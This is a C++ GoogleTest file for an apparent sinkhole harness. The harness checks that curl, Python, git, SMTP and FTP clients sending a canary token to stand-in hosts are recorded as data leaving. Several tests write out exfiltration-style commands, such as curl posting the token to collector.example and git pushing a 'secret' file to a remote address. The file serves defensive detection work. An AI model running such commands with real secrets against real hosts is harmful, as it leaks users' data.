// Real clients of this host against the sinkhole: do they get as far as saying what they came for?
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "base/process.h"
#include "base/temp_dir.h"
#include "evidence/sinkhole_for_tests.h"

namespace redcode::evidence {
namespace {

using testing::HasSubstr;

Task<> ignore(std::string_view) { co_return; }

// Runs a program where the calling thread is; gives its exit code.
std::string program(std::vector<std::string> argv) {
  const ProcessRequest request{.argv = std::move(argv), .limit = std::chrono::seconds(20)};
  return std::to_string(run(run_process(request, ignore)).exit_code);
}

class RealClients : public InASandboxNetwork {
 protected:
  void SetUp() override {
    InASandboxNetwork::SetUp();
    authority = std::make_shared<const sandbox::Authority>();
    std::ofstream(trusted()) << authority->certificate();
  }
  std::string trusted() const { return dir.path() / "authority.pem"; }

  std::string write(const std::string& name, const std::string& text) const {
    const std::string path = dir.path() / name;
    std::ofstream(path) << text;
    return path;
  }
  // A Python program, with a library's resolver left out: this host's /etc/resolv.conf may name a
  // server on its own loopback.
  std::string python(const std::string& code) const {
    return program({"/usr/bin/python3", write("client.py", code)});
  }

  TempDir dir{"sinkhole-test"};
};

TEST_F(RealClients, CurlPostsOverTls) {
  const std::string code = watch([&] {
    return program({"curl", "-sS", "--cacert", trusted(), "--resolve",
                    "collector.example:443:203.0.113.9", "-d", token,
                    "https://collector.example/in"});
  });

  EXPECT_EQ(code, "0");
  const record::Connected connected{
      .host = "collector.example", .address = "203.0.113.9", .port = 443, .transport = "tls"};
  EXPECT_EQ(facts<record::Connected>(), std::vector{connected});
  ASSERT_EQ(facts<record::DataSent>().size(), 1U);
  EXPECT_EQ(facts<record::DataSent>()[0].transport, "tls");
  EXPECT_THAT(kept, HasSubstr("POST /in HTTP/1.1"));
  EXPECT_THAT(kept, HasSubstr(token));
  const record::CanarySeen canary{.canary = "key",
                                  .place = record::CanaryPlace::network,
                                  .where = "collector.example",
                                  .encoding = "plain"};
  EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
}

TEST_F(RealClients, CurlCallsABareAddressOverTlsOnAnotherPort) {
  const std::string code = watch([&] {
    return program({"curl", "-sS", "--cacert", trusted(), "https://203.0.113.9:8443/x?" + token});
  });

  EXPECT_EQ(code, "0");
  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
}

TEST_F(RealClients, AClientThatTrustsNobodyIsAContactByName) {
  const std::string code = watch([&] {
    return program({"curl", "-sS", "--cacert", "/etc/ssl/certs/ca-certificates.crt", "--resolve",
                    "pinned.example:443:203.0.113.9", "-d", token, "https://pinned.example/"});
  });

  EXPECT_EQ(code, "60");
  const record::Connected connected{
      .host = "pinned.example", .address = "203.0.113.9", .port = 443, .transport = "tcp"};
  EXPECT_EQ(facts<record::Connected>(), std::vector{connected});
  EXPECT_TRUE(facts<record::CanarySeen>().empty());
  EXPECT_EQ(lost(), 0U);
}

TEST_F(RealClients, AClientCannotSayThatItCallsAHostOfTheAgentsOwnProgram) {
  ledger.set_baseline({.hosts = {"telemetry.example"}});

  const std::string code = watch([&] {
    resolve({"telemetry", "example"});
    return program({"curl", "-sS", "--cacert", trusted(), "--resolve",
                    "telemetry.example:443:203.0.113.9", "-d", token,
                    "https://telemetry.example/"});
  });

  EXPECT_EQ(code, "0");
  const record::Connected connected{
      .host = "", .address = "203.0.113.9", .port = 443, .transport = "tls"};
  EXPECT_EQ(facts<record::Connected>(), std::vector{connected});
  std::vector<std::string> own;
  for (const record::Observation& one : evidence.observations) {
    if (one.own) own.emplace_back(kind(one.fact));
  }
  EXPECT_EQ(own, std::vector<std::string>{"name-looked-up"});
}

TEST_F(RealClients, WithoutAnAuthorityTlsIsAContactByName) {
  authority = nullptr;

  const std::string code = watch([&] {
    return program(
        {"curl", "-sSk", "--resolve", "closed.example:443:203.0.113.9", "https://closed.example/"});
  });

  EXPECT_EQ(code, "35");
  ASSERT_EQ(facts<record::Connected>().size(), 1U);
  EXPECT_EQ(facts<record::Connected>()[0].host, "closed.example");
}

TEST_F(RealClients, PythonPostsOverTls) {
  const std::string code = watch([&] {
    return python(
        "import ssl, urllib.request\n"
        "context = ssl.create_default_context(cafile='" +
        trusted() +
        "')\n"
        "answer = urllib.request.urlopen('https://203.0.113.9/in', b'" +
        token +
        "', context=context)\n"
        "assert answer.status == 200 and answer.read() == b'ok\\n'\n");
  });

  EXPECT_EQ(code, "0");
  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
}

TEST_F(RealClients, PythonSendsAMail) {
  const std::string code = watch([&] {
    return python(
        "import smtplib\n"
        "server = smtplib.SMTP('203.0.113.9', 587, local_hostname='me')\n"
        "server.login('dev', 'pass')\n"
        "server.sendmail('a@b.test', ['c@d.test', 'e@f.test'], 'Subject: x\\n\\n" +
        token +
        "')\n"
        "server.quit()\n");
  });

  EXPECT_EQ(code, "0");
  const std::uint64_t size = token.size() + std::string("Subject: x\r\n\r\n\r\n").size();
  EXPECT_EQ(facts<record::MailSent>(),
            (std::vector<record::MailSent>{
                {.recipient = "c@d.test", .host = "203.0.113.9", .size = size},
                {.recipient = "e@f.test", .host = "203.0.113.9", .size = size}}));
  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
}

TEST_F(RealClients, PythonUploadsAFileOverFtp) {
  const std::string code = watch([&] {
    return python(
        "import ftplib, io\n"
        "server = ftplib.FTP('203.0.113.9', 'dev', 'pass')\n"
        "server.storbinary('STOR x', io.BytesIO(b'" +
        token +
        "'))\n"
        "server.quit()\n");
  });

  EXPECT_EQ(code, "0");
  ASSERT_EQ(facts<record::CanarySeen>().size(), 1U);
  EXPECT_EQ(facts<record::Connected>().size(), 2U);
}

TEST_F(RealClients, GitPushesASecret) {
  const std::string repository = dir.path() / "repository";
  program({"git", "init", "-q", repository});
  write("repository/secret", token);
  program({"git", "-C", repository, "add", "secret"});
  program({"git", "-C", repository, "-c", "user.name=a", "-c", "user.email=a@b.test", "commit",
           "-qm", "x"});

  const std::string code = watch([&] {
    return program(
        {"git", "-C", repository, "push", "http://203.0.113.9/x.git", "HEAD:refs/heads/main"});
  });

  EXPECT_EQ(code, "0");
  const record::CanarySeen canary{.canary = "key",
                                  .place = record::CanaryPlace::network,
                                  .where = "203.0.113.9",
                                  .encoding = "gzip"};
  EXPECT_THAT(facts<record::CanarySeen>(), testing::Contains(canary));
}

TEST_F(RealClients, LooksUpANameOverTcp) {
  const std::string packet = std::string("\x12\x34\x01\x00\0\1\0\0\0\0\0\0", 12) + "\x01x\x04test" +
                             std::string("\0\0\1\0\1", 5);
  const std::string framed = std::string(1, '\0') + static_cast<char>(packet.size()) + packet;

  const std::string answer = watch([&] { return talk("198.51.100.53", 53, framed); });

  EXPECT_EQ(answer.size(), framed.size() + 16);
  const record::NameLookedUp lookup{.host = "x.test"};
  EXPECT_EQ(facts<record::NameLookedUp>(), std::vector{lookup});
  EXPECT_TRUE(facts<record::DataSent>().empty());
}

TEST_F(RealClients, AHostileClientHelloIsOnlyAContact) {
  std::string hello = "\x16\x03\x01\x10";
  hello += '\0';
  hello += std::string(0x1000, '\x01');

  watch([&] { return talk("203.0.113.9", 443, hello + std::string(100'000, '\xff')); });

  ASSERT_EQ(facts<record::Connected>().size(), 1U);
  EXPECT_EQ(facts<record::Connected>()[0].transport, "tcp");
  EXPECT_EQ(lost(), 0U);
}

}  // namespace
}  // namespace redcode::evidence
